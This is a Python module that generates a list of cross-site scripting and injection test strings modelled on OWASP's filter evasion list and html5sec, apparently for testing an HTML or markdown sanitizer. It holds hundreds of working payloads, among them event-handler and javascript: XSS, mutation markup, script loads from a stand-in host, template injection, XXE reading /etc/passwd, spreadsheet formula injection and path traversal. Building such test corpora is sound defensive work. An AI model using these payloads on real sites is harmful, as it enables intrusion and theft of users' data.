"""Attack strings of the kinds that OWASP's filter evasion list and html5sec collect, put together from their parts."""

# ruff: noqa: E501

from __future__ import annotations

from itertools import cycle, product

RUN = "alert(1)"
HOST = "//evil.example/x"

# fmt: off
ELEMENTS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee", "math",
    "iframe src=x", "a href=#", "p", "b", "time", "select autofocus", "textarea autofocus", "object data=x", "embed src=x",
    "style", "div", "li", "td", "sup", "blockquote", "xss", "isindex", "keygen autofocus", "button", "form", "frameset",
)
EVENTS = (
    "onload", "onerror", "onfocus", "ontoggle", "onmouseover", "onclick", "onstart", "onpointerenter", "onanimationend",
    "onbeforetoggle", "onscroll", "onpageshow", "oncopy",
)
# How an attribute may be written.
WRITTEN = ("<{0} {1}={2}>", '<{0} {1}="{2}">', "<{0} {1}='{2}'", "<{0}/{1}={2}//>", "<{0}\n{1}\n=\n{2} >", "<{0}\t{1}=`{2}`>")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\rscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "\u00a0javascript:alert(1)", "javascript :alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)", "jav&#x09;ascript:alert(1)", "jav&Tab;ascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title></style></script>*/alert(1)",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "blob:https://evil.example/x",
    "filesystem:https://evil.example/x", "file:///etc/passwd", "\\\\evil.example\\x", "/\\evil.example/x",
    "java%73cript:alert(1)", "\N{FULLWIDTH LATIN SMALL LETTER J}avascript:alert(1)", "ms-its:mhtml:x", "jar:https://evil.example!/x",
)
BEARERS = (
    "[x]({0})", "[x](<{0}>)", "![x]({0})", "<{0}>", "[x][r]\n\n[r]: {0}", '<a href="{0}">x</a>', "<a href={0}>x</a>",
    '<img src="{0}">', '<img srcset="{0} 2x">', '<a xlink:href="{0}">x</a>', '<form action="{0}"><button>x</button></form>',
    '<iframe src="{0}"></iframe>', '<object data="{0}"></object>', '<base href="{0}">', '<q cite="{0}">x</q>',
    '<table background="{0}"><tr><td>x</td></tr></table>', '<link rel=stylesheet href="{0}">', '<a ping="{0}" href="x">x</a>',
    '<meta http-equiv=refresh content="0;url={0}">', '<svg><a href="{0}"><text>x</text></a></svg>',
    '<svg><use href="{0}"/></svg>', '<math href="{0}">x</math>', '<input type=image formaction="{0}">',
    '<time title="{0}">x</time>', '<video poster="{0}"></video>', '<p style="background:url({0})">x</p>',
)
BREAKOUTS = (
    "</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</template>", "</iframe>", "-->", "]]>", "?>",
    '">', "'>", "`>", '"/>', '" ', "' ", "&quot;>", "&#34;>", "\\\">", "%22%3E", "</p></div></main>", "</a>", "</time>",
    "</code>", "</pre>", "<![CDATA[", "<!--", "<!--[if IE]>", "<?php", "<%", "\u2028", "\x00", "\x02amp\x03", "\\u003c",
)
PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script src=//evil.example/x></script>",
    " autofocus onfocus=alert(1) x=", "<SCRIPT\n>alert(1)</SCRIPT\n>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>", "<script>alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
)
# Markup that a browser reads otherwise than it was written (mutation), or that reads as another language.
WHOLE = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><script>alert&#40;1)</script>", "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>", "<table><a><tr><script>alert(1)</script>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
    "<style>@import '//evil.example/x';</style>", "<p style='x:expression(alert(1))'>x</p>", "<style>*{background:url(//evil.example/x)}",
    "<link rel=prefetch href=//evil.example/x>", "<link rel=import href=//evil.example/x>", "<meta charset=utf-7>+ADw-script+AD4-",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">', "<base target=_top href=//evil.example/>",
    "<a href=//evil.example target=_blank rel=opener>x</a>", "<img src=//evil.example/x>", "<img src=https://evil.example/x.png>",
    "<img name=body><img id=content><a id=legend>x</a>", "<form id=content><input name=cookie></form>", "<div id=x0 class=entry>x</div>",
    "<portal src=//evil.example/x>", "<frameset><frame src=//evil.example/x></frameset>", "<applet code=x></applet>",
    "<bdo dir=rtl>dednepo</bdo>", "<audio src=//evil.example/x autoplay>", "<track src=//evil.example/x>", "<input type=image src=//evil.example/x>",
    "<script type=module>import '//evil.example/x'</script>", "<script type=importmap>{}</script>", "<script type=speculationrules>{}</script>",
    "{{ 7 * 7 }}{{ config }}{% include '/etc/passwd' %}{# x #}", "{{ ''.__class__.__mro__ }}", "${7*7} #{7*7} <%= 7*7 %>", "{%raw%}{{x}}{%endraw%}",
    "[a](x \"y\" onclick=alert(1))", '[a](x "y\\" onclick=alert(1)")', '![a](x"onerror="alert(1))', '![a"onerror="alert(1)](x)',
    '[x" onclick="alert(1)](y)', "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: note", "`</code><script>alert(1)</script>`",
    "```<script>\n<img src=x onerror=alert(1)>\n```", "~~~ \"onclick=alert(1)\nx\n~~~", "    <script>alert(1)</script>", "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| \" onclick=alert(1) | <script>alert(1)</script> |", "\x02wzxhzdk:0\x03<b onclick=alert(1)>x</b>",
    "\x02klzzwxh:0001\x03<script>alert(1)</script>", "<!-- <script>alert(1)</script> --!><img src=x onerror=alert(1)>", "<div markdown=1 onclick=alert(1)>*x*</div>",
    "\u202ednetxe\u202c", "\u2066\u202e2016\u2069", "&#x202e;&#8238;&#x2067;x", "\u200f\u200ex", "\x1b[2J\x1b]0;x\x07", "\x9b31m", "&#xD800;&#0;&#x80;", "\U000e0041\U000e0042",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\u0645\u0631\u062d\u0628\u0627 2016", "\u5317\u4eac", "\U0001f469\u200d\U0001f680", "::error file=x::y", "##[error]x", "../../../etc/passwd", "..\\..\\x",
    # What newer elements and attributes offer, and what older browsers did.
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<button command=show-modal commandfor=d>x</button><dialog id=d onfocus=alert(1)>", "<div hidden=until-found onbeforematch=alert(1)>x</div>",
    "<div contenteditable oncut=alert(1) onpaste=alert(1)>x</div>", "<p accesskey=x onclick=alert(1)>x</p>", "<style>p{transition:all 1s}</style><p ontransitionend=alert(1)>x</p>",
    "<script nonce=x>alert(1)</script>", "<x-y is=script>alert(1)</x-y>", "<slot name=x onslotchange=alert(1)></slot>", "<fencedframe src=//evil.example/x></fencedframe>",
    "<link rel=preload as=script href=//evil.example/x>", "<link rel=modulepreload href=//evil.example/x>", "<link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example>",
    "<link rel=preload as=image imagesrcset='//evil.example/x 1x'>", "<img attributionsrc=//evil.example/x src=x>", "<html manifest=//evil.example/x>", "<img longdesc=//evil.example/x src=x>",
    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example/x></layer>", "<image src=x onerror=alert(1)>",
    "<p style='behavior:url(//evil.example/x)'>x</p>", "<p style='-moz-binding:url(//evil.example/x)'>x</p>", "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "<svg xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event='load'>alert(1)</handler></svg>", "<svg><a xlink:href='javascript:alert(1)'><rect width=9 height=9 /></a></svg>",
    "<svg><image href=//evil.example/x /></svg>", "<svg><feImage href=//evil.example/x /></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<input type=submit formmethod=post formaction=//evil.example/x form=f>",
    "<object type=text/x-scriptlet data=//evil.example/x></object>", "<embed code=//evil.example/x allowscriptaccess=always>", "<a href=x target=_self download=x.html>x</a>",
    "<ruby><rt onclick=alert(1)>x", "<col span=9999 onclick=alert(1)>", "<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>", "<o:p onclick=alert(1)>x</o:p>",
    "<p>x</p\u3000onclick=alert(1)>", "<img/src='x'/onerror='alert(1)'/ / >", "<\x00script>alert(1)</script>", "<scri\x00pt>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u017fcript<\u017fcript>alert(1)</\u017fcript>", "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>", "[url=javascript:alert(1)]x[/url]",
    "[x](javascript&colon;alert(1) 'y')", "[x]: <javascript:alert(1)> 'y'\n\n[x]", "![x](//evil.example/x 'y')", "<time datetime=2016 title='\"><script>alert(1)</script>'>Friday</time>",
    "<time datetime=2016 onclick=alert(1)>Friday</time>", "=cmd|' /C calc'!A0", "+1+cmd|x", "@SUM(1)", "%0d%0aSet-Cookie:x=y", "\r\nBEGIN:VEVENT\r\nSUMMARY:x", "]]><x/><![CDATA[",
    "<abbr title='&#34; onclick=&#34;alert(1)'>x</abbr>", "<ol start='1 onclick=alert(1)'><li>x</ol>", "<td colspan='2\" onclick=\"alert(1)'>x", "<p lang='x\" onclick=\"alert(1)'>x</p>",
    "<a class='footnote-ref\" onclick=\"alert(1)' href=x>x</a>", "<sup id='fn:1\" onclick=\"alert(1)'>x</sup>", "<li id=fn:dateline onclick=alert(1)>x", "<mark onclick=alert(1)>Friday</mark>",
)
# fmt: on


def attacks() -> list[str]:
    """Every string once, in the same order every time."""
    writing = cycle(WRITTEN)
    found = [next(writing).format(element, event, RUN) for element, event in product(ELEMENTS, EVENTS[:4])]
    found += [next(writing).format("img src=x", event, RUN) for event in EVENTS]
    # Each scheme in each of some bearers, so that in all each bearer has each kind of scheme.
    bearers = cycle(BEARERS)
    found += [next(bearers).format(scheme) for scheme in SCHEMES for _ in range(5)]
    found += [bearer.format(scheme) for bearer in BEARERS for scheme in (SCHEMES[0], HOST)]
    payloads = cycle(PAYLOADS)
    found += [breakout + next(payloads) for breakout in BREAKOUTS for _ in range(3)]
    return list(dict.fromkeys([*found, *PAYLOADS, *WHOLE]))
